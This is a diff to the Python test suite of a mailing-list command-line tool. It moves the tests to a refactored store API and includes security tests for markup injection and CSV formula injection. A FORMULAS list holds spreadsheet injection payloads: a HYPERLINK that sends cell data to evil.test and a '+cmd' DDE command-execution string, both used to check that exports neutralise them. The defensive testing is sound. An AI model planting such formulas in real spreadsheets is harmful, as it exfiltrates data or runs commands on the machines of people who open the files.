@@ -195,7 +195,7 @@ def test_subs_add_rejects_a_bad_address(store: Store, run_cli) -> None:
 
 def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -> None:
     import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
-    store.unsubscribe(on_list(store)["gu@example.net"].id, "test")
+    store.subscribers.unsubscribe(on_list(store)["gu@example.net"].id, "test")
 
     rows = listed(run_cli)
     assert all({"email", "name", "status"} <= set(row) for row in rows.values())
@@ -209,7 +209,7 @@ def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -
 
 def test_names_are_shown_as_written_never_as_markup(store: Store, run_cli) -> None:
     # Anyone can type a name into the sign-up form; rich would read "[/]" as a closing tag and crash the table.
-    store.upsert_subscribers(store.get_list("bulletin").id, [
+    store.subscribers.upsert(store.lists.get("bulletin").id, [
         Subscriber(email="mark@example.org", name="[/]Mark [bold]Up[link=https://evil.test]x"),
     ], "test")
     result = run_cli("subs", "ls", "--list", "bulletin")
@@ -235,11 +235,11 @@ def test_subs_export_to_a_file(store: Store, tmp_path: Path, run_cli) -> None:
 def test_export_work_grows_with_the_list_not_with_its_square(store: Store) -> None:
     # Each chunk of 500 re-sorted the whole list (100,000 subscribers: 4.3 s, growing with the square). Counted in
     # SQLite's virtual-machine steps rather than seconds, so a loaded machine cannot make it pass or fail.
-    mailing_list = store.get_list("bulletin")
+    mailing_list = store.lists.get("bulletin")
 
     def steps_to_export(total: int) -> int:
         have = sum(1 for _ in subscribers(store, "bulletin"))
-        store.upsert_subscribers(mailing_list.id, [Subscriber(email=f"s{n}@example.org", name=f"S {n}",
+        store.subscribers.upsert(mailing_list.id, [Subscriber(email=f"s{n}@example.org", name=f"S {n}",
                                                               attrs={"city": "X"}) for n in range(have, total)], "t")
         steps = [0]
 
@@ -274,12 +274,12 @@ def test_subs_remove(store: Store, tmp_path: Path, run_cli) -> None:
 
 def test_removing_someone_in_a_delivery_log_keeps_them_as_unsubscribed(store: Store, tmp_path: Path) -> None:
     import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
-    list_id = store.get_list("bulletin").id
-    store.create_campaign(list_id, "n1", "第1期", "n1.md", "hash", {}, "salt")
+    list_id = store.lists.get("bulletin").id
+    store.campaigns.create(list_id, "n1", "第1期", "n1.md", "hash", {}, "salt")
 
-    store.remove_subscriber(list_id, "wang@example.org")
+    store.subscribers.remove(list_id, "wang@example.org")
 
-    assert store.get_subscriber(list_id, "wang@example.org").status == SubscriberStatus.UNSUBSCRIBED
+    assert store.subscribers.get(list_id, "wang@example.org").status == SubscriberStatus.UNSUBSCRIBED
     kept = store.conn.execute("SELECT COUNT(*) FROM deliveries WHERE email = 'wang@example.org'").fetchone()[0]
     assert kept == 1
 
@@ -339,10 +339,10 @@ FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A2,"Click")', "+cmd|' /C calc'!A0
 
 def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path,
                                                                         run_cli) -> None:  # type: ignore[no-untyped-def]
-    list_id = store.get_list("bulletin").id
+    list_id = store.lists.get("bulletin").id
     people = [Subscriber(email=f"p{i}@example.org", name=f, attrs={"note": f}) for i, f in enumerate(FORMULAS)]
     people.append(Subscriber(email="=1+2@example.org", name="plain", attrs={"note": "a=b"}))  # '=' is atext
-    store.upsert_subscribers(list_id, people, "test")
+    store.subscribers.upsert(list_id, people, "test")
     target = tmp_path / "export.csv"
     assert run_cli("subs", "export", "--list", "bulletin", "-o", str(target)).returncode == 0
     rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
@@ -478,8 +478,8 @@ def test_a_header_without_email_says_how_it_looks_separated(store: Store, tmp_pa
 
 
 def test_suppressed_addresses_import_as_suppressed_not_added(store: Store, tmp_path: Path, run_cli) -> None:
-    store.suppress_address("li@example.com", "bounced", "5.1.1 user unknown")
-    store.suppress_address("gu@example.net", "complained")
+    store.suppressions.suppress_address("li@example.com", "bounced", "5.1.1 user unknown")
+    store.suppressions.suppress_address("gu@example.net", "complained")
     result = run_cli("subs", "import", str(write_csv(tmp_path / "l.csv", CHINESE)), "--list", "bulletin")
     assert result.returncode == 0, result.stderr
     assert "1 added" in result.stdout and "2 suppressed" in result.stdout
@@ -487,6 +487,6 @@ def test_suppressed_addresses_import_as_suppressed_not_added(store: Store, tmp_p
     assert {e: (r["status"], r["suppressed"]) for e, r in rows.items()} == {
         "wang@example.org": ("active", None), "li@example.com": ("bounced", "bounced"),
         "gu@example.net": ("unsubscribed", "complained")}
-    assert store.count_recipients(store.get_list("bulletin").id) == 1
+    assert store.subscribers.count_recipients(store.lists.get("bulletin").id) == 1
     table = run_cli("subs", "ls", "--list", "bulletin").stdout
     assert re.search(r"li@example\.com.*bounced.*bounced", table)
